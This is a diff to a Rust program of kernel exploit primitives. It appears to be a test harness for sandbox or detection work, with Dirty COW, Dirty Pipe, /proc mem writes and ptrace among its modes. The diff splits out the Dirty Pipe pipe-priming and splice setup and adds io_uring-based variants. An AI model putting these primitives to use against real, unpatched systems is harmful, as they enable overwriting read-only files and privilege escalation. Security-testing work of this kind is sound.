@@ -8,7 +8,10 @@
 //!        procmem-inherited | benign-writes | pvwritev | ptrace PID |
 //!        bpf | open-by-handle | userfaultfd | connect PATH | finit-module | setns32 NSFILE CMD | setns NSFILE CMD |
 //!        int80 NR [ARG | s:STRING]... | iouring-open PATH r|w | fsmount-read DEV FSTYPE FILE |
-//!        fchdir FD CMD | flood open|ns|ns-own|userns PATH SECS>
+//!        fchdir FD CMD | flood open|ns|ns-own|userns PATH SECS | iouring-dirtypipe FILE |
+//!        iouring-procmem | iouring-dirtycow FILE | iouring-benign>
+
+mod iouring;
 
 use std::{
     ffi::CString,
@@ -300,6 +303,29 @@ fn dirtypipe_via(how: &str, path: &str) {
 /// A pipe primed so that every buffer slot was used once, then one byte of the read-only FILE
 /// spliced into it: the state Dirty Pipe's write abuses.
 fn spliced_pipe(path: &str) -> [i32; 2] {
+    let fds = primed_pipe();
+    let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open target"));
+    let mut off: libc::loff_t = 0;
+    // SAFETY: splice between descriptors we own, with our own offset.
+    if unsafe {
+        libc::splice(
+            file.as_raw_fd(),
+            &mut off,
+            fds[1],
+            std::ptr::null_mut(),
+            1,
+            0,
+        )
+    } != 1
+    {
+        fail("splice");
+    }
+    fds
+}
+
+/// A pipe every buffer slot of which was filled and drained once (so each carries the
+/// "can merge" flag Dirty Pipe leaves behind); empty.
+fn primed_pipe() -> [i32; 2] {
     let mut fds = [0i32; 2];
     // SAFETY: plain syscalls on descriptors we own.
     unsafe {
@@ -320,19 +346,6 @@ fn spliced_pipe(path: &str) -> [i32; 2] {
             let n = left.min(sink.len());
             libc::read(fds[0], sink.as_mut_ptr().cast(), n);
             left -= n;
-        }
-        let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open target"));
-        let mut off: libc::loff_t = 0;
-        if libc::splice(
-            file.as_raw_fd(),
-            &mut off,
-            fds[1],
-            std::ptr::null_mut(),
-            1,
-            0,
-        ) != 1
-        {
-            fail("splice");
         }
     }
     fds
@@ -992,6 +1005,10 @@ fn main() {
         Some("setns32") => setns32(&arg(2), &arg(3)),
         Some("setns") => setns64(&arg(2), &arg(3)),
         Some("iouring-open") => iouring_open(&arg(2), &arg(3)),
+        Some("iouring-dirtypipe") => iouring::dirtypipe(&arg(2)),
+        Some("iouring-procmem") => iouring::procmem(),
+        Some("iouring-dirtycow") => iouring::dirtycow(&arg(2)),
+        Some("iouring-benign") => iouring::benign(),
         Some("fsmount-read") => fsmount_read(&arg(2), &arg(3), &arg(4)),
         #[cfg(target_arch = "x86_64")]
         Some("int80") => int80(&arg(2), &args[3..]),
@@ -1003,7 +1020,7 @@ fn main() {
         ),
         _ => {
             eprintln!(
-                "usage: primitives <dirtycow FILE|dirtycow-via int80|clonevm FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice|int80 FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD|flood open|ns|ns-own|userns PATH SECS>"
+                "usage: primitives <dirtycow FILE|dirtycow-via int80|clonevm FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice|int80 FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD|flood open|ns|ns-own|userns PATH SECS|iouring-dirtypipe FILE|iouring-procmem|iouring-dirtycow FILE|iouring-benign>"
             );
             exit(2);
         }
